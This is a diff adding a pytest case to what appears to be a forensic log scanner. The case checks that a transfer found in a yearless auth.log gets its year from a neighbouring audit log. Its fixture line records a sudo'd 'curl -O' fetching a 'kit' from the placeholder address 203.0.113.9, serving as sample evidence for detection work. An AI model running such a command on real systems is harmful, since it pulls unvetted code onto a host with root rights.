@@ -122,3 +122,14 @@ def test_the_temporary_files_are_gone_afterwards(evidence: Path, tmp_path: Path,
         assert set(tmp_path.iterdir()) > before
 
     assert set(tmp_path.iterdir()) == before
+
+
+def test_a_log_without_years_gets_that_of_the_logs_beside_it(tmp_path: Path) -> None:
+    log = Audit("web1")
+    log.run(60, 7, "ls", "-l")
+    (tmp_path / "audit.log").write_text(log.text(), encoding="utf-8")
+    line = "Jan  2 10:00:20 web1 sudo:    ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/curl -O http://203.0.113.9/kit\n"
+    (tmp_path / "auth.log").write_text(line, encoding="utf-8")
+    with scan([str(tmp_path)]) as result:
+        [transfer] = result.transfers()
+    assert transfer.time == "2026-01-02T10:00:20Z"
